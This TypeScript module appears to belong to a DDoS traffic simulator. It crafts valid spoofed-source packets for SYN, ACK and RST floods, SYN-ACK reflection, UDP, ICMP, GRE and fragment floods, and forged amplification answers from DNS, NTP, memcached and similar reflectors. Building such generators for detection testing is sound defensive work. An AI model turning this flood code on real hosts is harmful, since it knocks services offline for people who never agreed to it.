/**
 * What makes a packet of each class: its headers, and which fields differ from packet to packet.
 *
 * Every packet is valid: lengths and checksums are right, so the target's system answers as it would to a real attack.
 */
import type { AttackClass } from '#contracts/attack-classes.ts';
import { fold, PacketWriter, sumWords } from './packet-writer.ts';
import type { Random32, Sources } from './sources.ts';

interface Reflector {
  /** The answer's source port. */
  port: number;
  answer: Uint8Array;
}

const answerBytes = 1200;

/** Services that answer a small spoofed question with a large answer, and what such an answer looks like. */
export const reflectors: readonly Reflector[] = [
  { port: 19, answer: Buffer.alloc(1024, ' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFG\r\n') },
  { port: 53, answer: dnsAnswer() },
  // The list of a time server's last clients: mode 7, request 42, six entries of 72 bytes.
  { port: 123, answer: startingWith(Buffer.from('d700032a00060048', 'hex'), 440) },
  { port: 389, answer: startingWith(Buffer.from('308405a402010764840000059b0400', 'hex'), answerBytes) },
  {
    port: 1900,
    answer: Buffer.from(
      'HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:00000000-0000-0000-0000-000000000000::upnp:rootdevice\r\nEXT:\r\nSERVER: example UPnP/1.1\r\nLOCATION: http://192.0.2.1:1900/root.xml\r\n\r\n',
    ),
  },
  // The frame header of UDP, then a value.
  {
    port: 11_211,
    answer: startingWith(Buffer.from('\0\0\0\0\0\x01\0\0VALUE a 0 1400\r\n', 'latin1'), 1400),
  },
];

function startingWith(head: Uint8Array, bytes: number): Uint8Array {
  const answer = Buffer.alloc(bytes, 'a');
  answer.set(head);
  return answer;
}

/** An answer to `example.com ANY` with text records; it parses. */
function dnsAnswer(): Uint8Array {
  const text = 'a'.repeat(255);
  const question = Buffer.from('\x07example\x03com\0\0\xff\0\x01', 'latin1');
  const record = Buffer.concat([
    // The name is the question's; type TXT, class IN, an hour; 256 bytes of data.
    Buffer.from('c00c0010000100000e100100', 'hex'),
    Buffer.from(`\xff${text}`, 'latin1'),
  ]);
  const records = 5;
  const head = Buffer.from(`5a5a81800001${records.toString(16).padStart(4, '0')}00000000`, 'hex');
  return Buffer.concat([head, question, ...Array.from({ length: records }, () => record)]);
}

/** Writes one packet after another. */
export interface PacketShape {
  /** No frame is longer. */
  frameBytesMax: number;
  /** Writes the next packet's frame at `at`; returns its length. */
  write(bytes: Uint8Array, at: number): number;
}

export interface ShapeOptions {
  target: string;
  sources: Sources;
  random: Random32;
}

const Tcp = { syn: 2, reset: 4, ack: 16 } as const;
const Protocol = { icmp: 1, tcp: 6, udp: 17, fragment: 44, gre: 47, icmp6: 58 } as const;
/** What guests serve. */
const servedPort = 443;
const udpDataBytes = 120;
const echoDataBytes = 56;
/** Of each fragment's data; a multiple of eight. */
const pieceBytes = 512;
const pieces = 3;
const dnsPort = 53;

/** Classes made of handmade packets with spoofed sources; nothing waits for an answer. */
const shapes = {
  syn_flood: (options: ShapeOptions) => toService(options, Tcp.syn),
  ack_flood: (options: ShapeOptions) => toService(options, Tcp.ack),
  rst_flood: (options: ShapeOptions) => toService(options, Tcp.reset),
  synack_reflection: fromService,
  udp_flood: udpFlood,
  icmp_flood: echoRequests,
  protocol_flood: greFlood,
  amplification,
  fragment_flood: fragments,
} satisfies Partial<Record<AttackClass, (options: ShapeOptions) => PacketShape>>;

export type PacketClass = keyof typeof shapes;
export const packetClasses = Object.keys(shapes) as PacketClass[];

export function createShape(packetClass: PacketClass, options: ShapeOptions): PacketShape {
  return shapes[packetClass](options);
}

/** Packets of one writer: source and identification differ in each, and what `vary` writes. */
function shapeOf(writer: PacketWriter, { sources, random }: ShapeOptions, vary: () => void): PacketShape {
  return {
    frameBytesMax: writer.frameBytes,
    write(bytes, at) {
      writer.begin(bytes, at);
      writer.setSource(sources.next());
      writer.setIdentification(random());
      vary();
      return writer.end();
    },
  };
}

function toService(options: ShapeOptions, flags: number): PacketShape {
  return tcp(options, flags, (writer, random) => {
    writer.setWord(0, anyPort(random()));
    writer.setWord(2, servedPort);
  });
}

/** What servers on the internet answer to openings that carried the target's address. */
function fromService(options: ShapeOptions): PacketShape {
  return tcp(options, Tcp.syn | Tcp.ack, (writer, random) => {
    writer.setWord(0, servedPort);
    writer.setWord(2, anyPort(random()));
  });
}

function tcp(
  given: ShapeOptions,
  flags: number,
  setPorts: (writer: PacketWriter, random: Random32) => void,
): PacketShape {
  const { target, random } = given;
  // Openings carry the option of the largest segment, as those of every system.
  const options = flags & Tcp.syn ? [2, 4, 0x05, 0xb4] : [];
  const payload = Buffer.alloc(20 + options.length);
  payload[12] = (payload.length / 4) << 4;
  payload[13] = flags;
  payload.writeUInt16BE(64_240, 14);
  payload.set(options, 20);
  const pseudo = { protocol: Protocol.tcp, length: payload.length };
  const writer = new PacketWriter({
    target,
    protocol: Protocol.tcp,
    payload,
    checksum: { at: 16, from: 0, pseudo },
  });
  return shapeOf(writer, given, () => {
    setPorts(writer, random);
    writer.setWord(4, random());
    writer.setWord(6, random());
    if (flags & Tcp.ack) {
      writer.setWord(8, random());
      writer.setWord(10, random());
    }
  });
}

/** To every port of the target, from ports of no reflector. */
function udpFlood(given: ShapeOptions): PacketShape {
  const { target, random } = given;
  const writer = udpWriter(target, Buffer.alloc(udpDataBytes, 'x'));
  return shapeOf(writer, given, () => {
    writer.setWord(0, 40_000 + (random() % 20_000));
    writer.setWord(2, anyPort(random()));
  });
}

function udpWriter(target: string, data: Uint8Array): PacketWriter {
  const head = Buffer.alloc(8);
  head.writeUInt16BE(8 + data.length, 4);
  const payload = Buffer.concat([head, data]);
  const pseudo = { protocol: Protocol.udp, length: payload.length };
  return new PacketWriter({
    target,
    protocol: Protocol.udp,
    payload,
    checksum: { at: 6, from: 0, pseudo },
  });
}

function echoRequests(given: ShapeOptions): PacketShape {
  const { target, random } = given;
  const isIpv4 = !target.includes(':');
  const payload = Buffer.alloc(8 + echoDataBytes, 'x');
  payload.fill(0, 0, 8);
  payload[0] = isIpv4 ? 8 : 128;
  const protocol = isIpv4 ? Protocol.icmp : Protocol.icmp6;
  // Only ICMPv6 includes the addresses.
  const pseudo = isIpv4 ? null : { protocol, length: payload.length };
  const writer = new PacketWriter({ target, protocol, payload, checksum: { at: 2, from: 0, pseudo } });
  return shapeOf(writer, given, () => {
    writer.setWord(4, random());
    writer.setWord(6, random());
  });
}

/** Generic routing encapsulation of IPv4 datagrams, of which the source port differs. */
function greFlood(given: ShapeOptions): PacketShape {
  const { target, random } = given;
  const inner = Buffer.alloc(20 + 8 + udpDataBytes, 'x');
  // From 192.0.2.1 to 192.0.2.2, without a checksum of the datagram, which IPv4 allows.
  inner.write(`4500${hex(inner.length)}0000000039110000c0000201c0000202`, 0, 'hex');
  inner.writeUInt16BE(~fold(sumWords(inner, 0, 20)) & 0xffff, 10);
  inner.write(`00000035${hex(8 + udpDataBytes)}0000`, 20, 'hex');
  const payload = Buffer.concat([Buffer.from('00000800', 'hex'), inner]);
  const writer = new PacketWriter({ target, protocol: Protocol.gre, payload, checksum: null });
  return shapeOf(writer, given, () => {
    writer.setWord(24, anyPort(random()));
  });
}

/** Large answers of public services; every second packet is of DNS, so that one port leads, as in real attacks. */
function amplification({ target, sources, random }: ShapeOptions): PacketShape {
  const writers = reflectors.map(({ port, answer }) => ({ port, writer: udpWriter(target, answer) }));
  const dns = writers.find(({ port }) => port === dnsPort)!;
  const others = writers.filter((one) => one !== dns);
  let turn = 0;
  return {
    frameBytesMax: Math.max(...writers.map(({ writer }) => writer.frameBytes)),
    write(bytes, at) {
      const { port, writer } = turn % 2 === 0 ? dns : others[(turn >>> 1) % others.length]!;
      turn += 1;
      writer.begin(bytes, at);
      writer.setSource(sources.next());
      writer.setIdentification(random());
      writer.setWord(0, port);
      writer.setWord(2, anyPort(random()));
      return writer.end();
    },
  };
}

/** Whole datagrams in three fragments each: the target has to put them together. */
function fragments({ target, sources, random }: ShapeOptions): PacketShape {
  const writers = Array.from({ length: pieces }, (_, i) => fragmentWriter(target, i));
  const source = new Uint16Array(target.includes(':') ? 8 : 2);
  const headAt = target.includes(':') ? 8 : 0;
  let piece = 0;
  let id = 0;
  return {
    frameBytesMax: Math.max(...writers.map((writer) => writer.frameBytes)),
    write(bytes, at) {
      if (piece === 0) {
        source.set(sources.next());
        id = random() & 0xffff;
      }
      const writer = writers[piece]!;
      writer.begin(bytes, at);
      writer.setSource(source);
      writer.setIdentification(id);
      if (headAt > 0) writer.setUnsummed(6, id);
      if (piece === 0) {
        writer.setWord(headAt, 40_000 + (id % 20_000));
        writer.setWord(headAt + 2, 9000);
      }
      piece = (piece + 1) % pieces;
      return writer.end();
    },
  };
}

/** The data is zeros, so that the datagram's checksum, in its first fragment, needs that fragment only. */
function fragmentWriter(target: string, piece: number): PacketWriter {
  const isIpv4 = !target.includes(':');
  const offset = piece * pieceBytes;
  const hasMore = piece < pieces - 1;
  const data = Buffer.alloc(pieceBytes);
  if (piece === 0) data.writeUInt16BE(pieces * pieceBytes, 4);
  const header = Buffer.alloc(isIpv4 ? 0 : 8);
  if (!isIpv4) {
    header[0] = Protocol.udp;
    header.writeUInt16BE(offset | (hasMore ? 1 : 0), 2);
  }
  const from = header.length;
  const pseudo = { protocol: Protocol.udp, length: pieces * pieceBytes };
  return new PacketWriter({
    target,
    protocol: isIpv4 ? Protocol.udp : Protocol.fragment,
    payload: Buffer.concat([header, data]),
    checksum: piece === 0 ? { at: from + 6, from, pseudo } : null,
    fragmentBits: (offset >> 3) | (hasMore ? 0x2000 : 0),
  });
}

/** Neither a well-known port nor 0. */
function anyPort(bits: number): number {
  return 1024 + (bits % 64_512);
}

function hex(word: number): string {
  return word.toString(16).padStart(4, '0');
}
